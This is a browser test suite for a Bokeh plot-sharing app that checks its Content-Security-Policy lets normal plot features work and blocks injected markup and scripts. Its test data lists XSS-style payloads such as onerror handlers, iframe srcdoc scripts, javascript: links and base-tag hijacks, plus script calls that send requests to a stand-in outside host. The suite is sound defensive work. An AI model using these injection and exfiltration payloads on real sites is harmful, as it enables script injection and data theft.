"""What the pages' Content-Security-Policy lets a plot do in a real browser, and what it refuses."""

from __future__ import annotations

import base64
import io
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from bokeh.core.properties import value
from bokeh.layouts import column, row
from bokeh.model import Model
from bokeh.models import (
    AjaxDataSource,
    Button,
    CanvasTexture,
    ColumnDataSource,
    CustomAction,
    CustomJS,
    CustomJSExpr,
    CustomJSFilter,
    CustomJSHover,
    CustomJSTickFormatter,
    CustomJSTransform,
    DataTable,
    DateEditor,
    Div,
    HelpButton,
    HoverTool,
    HTMLTemplateFormatter,
    ImageURLTexture,
    ImportedStyleSheet,
    InlineStyleSheet,
    NumberEditor,
    SaveTool,
    SelectEditor,
    StringEditor,
    SVGIcon,
    TableColumn,
    Tooltip,
    WMTSTileSource,
)
from bokeh.models.dom import HTML
from bokeh.plotting import figure
from bokeh.themes import Theme
from bokeh.transform import transform
from PIL import Image
from playwright.sync_api import Browser, expect
from support.colleague import Author, Colleague
from support.notebook_pages import Viewer
from support.plot_ids import id_of

from bokeh_share.plots.page import Page, PlotKey
from bokeh_share.plots.snapshot.capture import capture_plot
from bokeh_share.sharing.export import save_page


def png() -> bytes:
    with io.BytesIO() as file:
        Image.new("RGB", (256, 256), "crimson").save(file, "png")
        return file.getvalue()


ONE_PAIRING = pytest.mark.one_pairing
"""What the browser refuses by our header, whatever drew the page."""
PNG = png()
DATA = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"
ELSEWHERE = "https://tiles.test"
REFUSED = re.compile(r"console error: .*violates the following Content Security Policy directive")


@pytest.fixture(scope="module")
def colleague(browser: Browser) -> Iterator[Colleague]:
    one = Colleague(browser)
    one.page.route(f"{ELSEWHERE}/**", lambda route: route.fulfill(body=PNG, content_type="image/png"))
    yield one
    one.close()


@contextmanager
def watching(colleague: Colleague, model: Model) -> Iterator[None]:
    """While it is on the page, drawn."""
    author = Author()
    author.show(model)
    with colleague.watching(author):
        colleague.until_drawn()
        yield


def plot(**options: Any) -> figure:
    p = figure(width=300, height=200, **options)
    p.scatter("x", "y", size=9, source=ColumnDataSource({"x": [1, 2], "y": [1, 2]}))
    return p


def scripts() -> Model:
    """Each kind of a script that can be in a plot, but for callbacks."""
    source = ColumnDataSource({"x": [1, 2], "y": [1, 2]})
    p = figure(width=300, height=200)
    p.scatter("x", transform("y", CustomJSTransform(v_func="return xs.map((x) => 2 * x)")), source=source)
    p.line("x", CustomJSExpr(code="return this.data.y"), source=source)
    p.xaxis.formatter = CustomJSTickFormatter(code="return `at ${tick}`")
    hover = HoverTool(tooltips="@y{custom}", formatters={"@y": CustomJSHover(code="return `${value}!`")})
    view = figure(width=300, height=200)
    view.scatter([1, 2], [1, 2])
    view.renderers[0].view.filter = CustomJSFilter(code="return [0]")
    action = CustomAction(icon=DATA, callback=CustomJS(code=""))
    p.add_tools(hover, action)
    return row(p, view)


def table() -> Model:
    source = ColumnDataSource({"fruit": ["figs"], "kind": ["a"], "count": [3], "day": [0]})
    bold = HTMLTemplateFormatter(template="<b><%= value %></b>")
    columns = [
        TableColumn(field="fruit", title="fruit", formatter=bold, editor=StringEditor()),
        TableColumn(field="kind", title="kind", editor=SelectEditor(options=["a", "b"])),
        TableColumn(field="count", title="count", editor=NumberEditor()),
        TableColumn(field="day", title="day", editor=DateEditor()),
    ]
    return DataTable(source=source, columns=columns, width=400, height=100, editable=True)


def images() -> Model:
    p = figure(width=300, height=200, x_range=(0, 3), y_range=(0, 2))
    p.image_url([DATA], x=0, y=1, w=1, h=1)
    p.image_url([f"{ELSEWHERE}/a.png"], x=1, y=1, w=1, h=1)
    textures = [ImageURLTexture(url=DATA), CanvasTexture(code="ctx.fillRect(0, 0, 3, 3)")]
    for left, texture in enumerate(textures):
        hatch: dict[str, Any] = {"hatch_pattern": value("mine"), "hatch_extra": {"mine": texture}}
        p.quad(left=left, right=left + 1, bottom=0, top=1, **hatch)
    return p


def tiles() -> Model:
    p = figure(width=300, height=200, x_range=(0, 4e6), y_range=(4e6, 7e6), x_axis_type="mercator")
    p.add_tile(WMTSTileSource(url=ELSEWHERE + "/{Z}/{X}/{Y}.png", attribution="by <b>us</b>"))
    return p


def styled() -> Model:
    sheets = [
        InlineStyleSheet(css=":host { color: teal }"),
        ImportedStyleSheet(url="data:text/css,b { letter-spacing: 7px }"),
    ]
    div = Div(text="<b style='font-size: 20px'>styled</b>", stylesheets=sheets, styles={"padding": "3px"})
    help_button = HelpButton(tooltip=Tooltip(content=HTML("<i>more</i>"), position="right"))
    icon = SVGIcon(svg="<svg viewBox='0 0 9 9'><circle r='4'/></svg>")
    return column(div, help_button, Button(label="drawn", icon=icon))


def formulas() -> Model:
    p = plot(title=r"$$\alpha$$")
    p.xaxis.axis_label = r"$$\int_0^1 x^2 dx$$"
    return column(p, Div(text=r"$$e^{i\pi}$$"))


HONEST: dict[str, Callable[[], Model]] = {
    "scripts": scripts,
    "a table": table,
    "styles": styled,
    "formulas": formulas,
    "webgl": lambda: plot(output_backend="webgl"),
    "svg": lambda: plot(output_backend="svg"),
    "tools": lambda: plot(tools="pan,box_select,lasso_select,wheel_zoom,save,copy,examine,fullscreen,reset"),
}


@pytest.mark.parametrize("name", HONEST)
def test_it_lets_plots_do_what_they_do(name: str, colleague: Colleague) -> None:
    with watching(colleague, HONEST[name]()):
        assert colleague.troubles == []


@pytest.mark.parametrize("make", [images, tiles])
def test_images_and_tiles_of_maps_are_loaded_from_where_the_author_says(
    make: Callable[[], Model], colleague: Colleague
) -> None:
    with watching(colleague, make()):
        assert (220, 20, 60) in [color for _, color in colleague.settled().getcolors(2**24) or []]
        assert colleague.answers
        assert all(each.startswith("request to somebody else: https:") for each in colleague.troubles)


@pytest.mark.parametrize(
    "code",
    [
        "button.label = 'done'",
        "export default ({ button }) => { button.label = 'done' }",
        "button.label = new Function('return `done`')()",
    ],
)
def test_a_callback_of_the_authors_runs(code: str, colleague: Colleague) -> None:
    button = Button(label="go")
    button.js_on_click(CustomJS(args={"button": button}, code=code))
    with watching(colleague, button):
        colleague.page.get_by_role("button", name="go").click()
        colleague.page.get_by_role("button", name="done").wait_for()
        assert colleague.troubles == []


def test_an_image_that_a_script_made_is_drawn(colleague: Colleague) -> None:
    p = figure(width=300, height=200, x_range=(0, 1), y_range=(0, 1), toolbar_location=None)
    image = p.image_url([DATA], x=0, y=0, w=1, h=1, anchor="bottom_left")
    button = Button(label="go")
    code = f"""
        const bytes = Uint8Array.from(atob("{DATA.split(",")[1]}"), (char) => char.charCodeAt(0));
        const url = URL.createObjectURL(new Blob([bytes], {{ type: "image/png" }}));
        const seen = new Image(); seen.onload = () => {{ button.label = "loaded" }}; seen.src = url;
        source.data = {{ ...source.data, url: [url] }};
    """
    button.js_on_click(CustomJS(args={"source": image.data_source, "button": button}, code=code))
    with watching(colleague, column(button, p)):
        colleague.page.get_by_role("button", name="go").click()
        colleague.page.get_by_role("button", name="loaded").wait_for()
        colleague.settled()
        assert colleague.troubles == []


def test_a_cell_is_edited(colleague: Colleague) -> None:
    with watching(colleague, table()):
        for number in range(4):
            colleague.page.locator(".slick-row .slick-cell").nth(number + 1).dblclick()
            expect(colleague.page.locator(".slick-cell.editable")).to_have_count(1)
            colleague.page.keyboard.press("Escape")
        assert colleague.troubles == []


def test_a_plot_is_saved_as_a_picture(colleague: Colleague) -> None:
    p = plot(tools="", title="one")
    p.add_tools(SaveTool(filename="one"))
    with watching(colleague, p):
        with colleague.page.expect_download() as saving:
            colleague.page.get_by_title("Save", exact=True).press("Enter")
        with Image.open(saving.value.path()) as captured:
            assert captured.size == (300, 200)
        assert colleague.troubles == []


# What data can bring in if an author puts it into markup; each would set `owned`, or ask somebody else.
MARKUP = {
    "an inline handler": "<img src='data:,' onerror='owned = 1'>",
    "a script": "<script>owned = 1</script>",
    "an svg": "<svg onload='owned = 1'></svg>",
    "a frame": "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "a frame from elsewhere": "<iframe src='http://other.test/'></iframe>",
    "an object": "<object data='http://other.test/'></object>",
    "an embedded thing": "<embed src='http://other.test/'>",
    "a sheet": "<link rel='stylesheet' href='https://other.test/a.css'>",
    "an imported sheet": "<style>@import url('https://other.test/a.css');</style>",
    "a sound": "<audio src='https://other.test/a.wav' autoplay></audio>",
    "a plain image": "<img src='http://other.test/a.png'>",
    "a base": "<base href='https://other.test/'>",
}
QUIET = {"a script", "a base"}
"""Browsers run no script that comes as text, and look for a base only in the head."""


@pytest.mark.parametrize("name", MARKUP)
def test_the_policy_blocks_content_from_markup(name: str, colleague: Colleague) -> None:
    with watching(colleague, Div(text=f"{MARKUP[name]}<p>marked</p>")):
        colleague.page.get_by_text("marked").wait_for()
        if name not in QUIET:
            _wait_for_refusal(colleague)
        assert colleague.page.evaluate("typeof owned") == "undefined"
        assert colleague.page.evaluate("document.baseURI.startsWith('http://colleague.test/')")


def test_it_refuses_a_link_that_is_a_script(colleague: Colleague) -> None:
    with watching(colleague, Div(text="<a href='javascript:owned = 1'>marked</a>")):
        colleague.page.get_by_text("marked").click()
        _wait_for_refusal(colleague)
        assert colleague.page.evaluate("typeof owned") == "undefined"


SENDING = {
    "fetch": "await fetch('https://other.test/')",
    "a request": "const asking = new XMLHttpRequest(); asking.open('GET', 'https://other.test/'); "
    "asking.send()",
    "a websocket": "new WebSocket('wss://other.test/')",
    "events": "new EventSource('https://other.test/')",
    "a beacon": "navigator.sendBeacon('https://other.test/', 'x')",
    "a plain image": "new Image().src = 'http://other.test/a.png'",
    "a module": "await import('https://other.test/a.js')",
    "a script": "document.head.append(Object.assign(document.createElement('script'), "
    "{ src: 'https://other.test/a.js' }))",
    "an inline script": "document.head.append(Object.assign(document.createElement('script'), "
    "{ textContent: 'owned = 1' }))",
    "a font": "await new FontFace('f', 'url(https://other.test/f)').load()",
    "a worker": "new Worker(URL.createObjectURL(new Blob([''])))",
    "a form": "const form = document.createElement('form'); form.action = 'https://other.test/'; "
    "document.body.append(form); form.submit()",
    "a base": "document.head.append(Object.assign(document.createElement('base'), "
    "{ href: 'https://other.test/' }))",
}


@ONE_PAIRING
@pytest.mark.parametrize("name", SENDING)
def test_the_policy_blocks_requests_of_scripts_to_other_hosts(name: str, colleague: Colleague) -> None:
    """But for images by https, which have to be let in: what a script puts into their addresses goes out."""
    button = Button(label="go")
    code = f"export default async () => {{ try {{ {SENDING[name]} }} catch (error) {{}} }}"
    button.js_on_click(CustomJS(code=code))
    with watching(colleague, button):
        colleague.page.get_by_role("button", name="go").dispatch_event("click")
        _wait_for_refusal(colleague)
        assert colleague.page.evaluate("typeof owned") == "undefined"
        assert colleague.page.url.startswith("http://colleague.test/")


def test_it_refuses_data_that_comes_from_elsewhere(colleague: Colleague) -> None:
    source = AjaxDataSource(data_url="https://other.test/data", polling_interval=None)
    p = figure(width=300, height=200)
    p.line("x", "y", source=source)
    with watching(colleague, p):
        _wait_for_refusal(colleague)


def test_it_refuses_a_sheet_from_elsewhere(colleague: Colleague) -> None:
    with watching(colleague, Div(text="x", stylesheets=[ImportedStyleSheet(url="https://other.test/a.css")])):
        _wait_for_refusal(colleague)


def _wait_for_refusal(colleague: Colleague) -> None:
    """Until the browser has said that it refused something; nobody else has been asked."""
    while not any(map(REFUSED.match, colleague.troubles)):
        colleague.page.wait_for_event("console")
    assert colleague.answers == []


@ONE_PAIRING
def test_no_other_site_can_frame_the_page(link: str, browser: Browser, tmp_path: Path) -> None:
    other = tmp_path / "other.html"
    other.write_text(f"<iframe src='{link}'></iframe>")
    context = browser.new_context()
    try:
        page = context.new_page()
        complaints: list[str] = []
        page.on("console", lambda message: complaints.append(message.text))
        page.goto(other.as_uri())
        while not any("frame-ancestors" in each for each in complaints):
            page.wait_for_event("console")
    finally:
        context.close()


def test_a_saved_page_runs_what_the_author_wrote_and_asks_nobody(browser: Browser, tmp_path: Path) -> None:
    button = Button(label="go")
    done = "export default ({ button }) => { button.label = 'done' }"
    button.js_on_click(CustomJS(args={"button": button}, code=done))
    button.js_on_click(CustomJS(code="void fetch('https://other.test/').catch(() => {})"))
    shown = [*(make() for make in HONEST.values()), Div(text=MARKUP["an inline handler"]), button]
    page = Page(title="Plots")
    for number, model in enumerate(shown):
        key = PlotKey("name", f"plot {number}")
        page = page.put(key, capture_plot(model, theme=Theme(json={})).snapshot, now=1)
    file = save_page(page, tmp_path / "page.html", now=1)
    context = browser.new_context()
    try:
        viewer = Viewer(context.new_page(), file.as_uri())
        viewer.open("saved")
        viewer.wait_until_drawn([[id_of(f"plot {number}"), 1] for number in range(len(shown))])
        (refused,) = viewer.troubles
        assert "inline event handler" in refused
        assert viewer.page.evaluate("typeof owned") == "undefined"
        viewer.page.get_by_role("button", name="go").click()
        viewer.page.get_by_role("button", name="done").wait_for()
        while len(viewer.troubles) == 1:
            viewer.page.wait_for_event("console")
        assert "Content Security Policy" in viewer.troubles[1]
    finally:
        context.close()
